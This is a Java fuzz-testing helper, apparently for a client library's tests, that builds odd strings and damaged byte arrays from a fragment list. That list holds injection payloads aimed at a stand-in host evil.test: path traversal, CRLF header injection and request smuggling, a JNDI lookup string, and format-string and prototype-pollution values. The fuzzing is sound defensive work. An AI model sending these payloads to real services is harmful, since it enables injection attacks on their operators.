package org.nangospring.fuzz;

import java.nio.charset.StandardCharsets;

import org.nangospring.client.TestClients;

/**
 * Draws bytes and texts that nobody expects.
 */
public final class Garbage {

	private static final String[] FRAGMENTS = { "", "a", "conn-1", " ", "/", "..", ".", "%", "%2e%2e", "%2F", "%00",
			"%zz", "+", "&", "=", "?", "#", "@", ":", ";", ",", "\\", "\"", "'", "<", "{", "}", "{id}", "[]", "*", "~",
			"|", "^", "`", "$", "//evil.test", "http://evil.test/", "@evil.test", "\r\nX-Evil: 1",
			"\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n", " HTTP/1.1", "\n", "\r", "\t", "\0", "\u007f",
			"\u0085", "\u00a0", "\u200b", "\u2028", "\u202e", "\ufeff", "\uffff", "\u212a", "\u0130", "\u00df",
			"\u00fc", "\u00ff", "\u0100", "\u65e5", "e\u0301", "\ud83d\ude00", "\ud83d", "\ude00", "\u560d\u560a",
			"null", "-1", "NaN", "__proto__", "${jndi:ldap://evil.test}", "%n%s", "a".repeat(300), TestClients.KEY };

	private Garbage() {
	}

	/**
	 * A text, most often of a few fragments that mean something somewhere.
	 */
	public static String text(Draw draw) {
		StringBuilder text = new StringBuilder();
		for (int i = draw.between(0, 4); i >= 0; i--) {
			switch (draw.between(0, 3)) {
				case 0, 1 -> text.append(draw.pick(FRAGMENTS));
				case 2 -> text.append((char) draw.between(' ', '~'));
				default -> text.append((char) draw.between(0, Character.MAX_VALUE));
			}
		}
		return text.toString();
	}

	/**
	 * Bytes, which are no text in most cases.
	 */
	public static byte[] bytes(Draw draw) {
		return switch (draw.between(0, 4)) {
			case 0 -> new byte[0];
			case 1 -> text(draw).getBytes(StandardCharsets.UTF_8);
			case 2 -> text(draw).getBytes(draw.pick(StandardCharsets.UTF_16, StandardCharsets.ISO_8859_1));
			case 3 -> ("<html><body>" + text(draw) + "</body></html>").getBytes(StandardCharsets.UTF_8);
			default -> random(draw, draw.between(1, 60));
		};
	}

	private static byte[] random(Draw draw, int length) {
		byte[] bytes = new byte[length];
		for (int i = 0; i < length; i++) {
			bytes[i] = (byte) draw.between(0, 255);
		}
		return bytes;
	}

	/**
	 * The same bytes, a little damaged: cut off, bits flipped, parts repeated or removed,
	 * bytes put in.
	 */
	public static byte[] damaged(byte[] bytes, Draw draw) {
		byte[] result = bytes;
		for (int i = draw.between(0, 2); i >= 0; i--) {
			result = damagedOnce(result, draw);
		}
		return result;
	}

	private static byte[] damagedOnce(byte[] bytes, Draw draw) {
		int at = draw.between(0, bytes.length);
		int to = Math.min(bytes.length, at + draw.between(0, 20));
		return switch (draw.between(0, 4)) {
			case 0 -> join(bytes, at, new byte[0], bytes.length);
			case 1 -> join(bytes, at, new byte[0], to);
			case 2 -> join(bytes, to, new byte[0], at);
			case 3 -> join(bytes, at, bytes(draw), to);
			default -> {
				byte[] copy = bytes.clone();
				if (at < copy.length) {
					copy[at] ^= (byte) (1 << draw.between(0, 7));
				}
				yield copy;
			}
		};
	}

	/**
	 * The bytes up to an index, others, and the bytes from an index.
	 */
	private static byte[] join(byte[] bytes, int until, byte[] middle, int from) {
		byte[] result = new byte[until + middle.length + bytes.length - from];
		System.arraycopy(bytes, 0, result, 0, until);
		System.arraycopy(middle, 0, result, until, middle.length);
		System.arraycopy(bytes, from, result, until + middle.length, bytes.length - from);
		return result;
	}

}
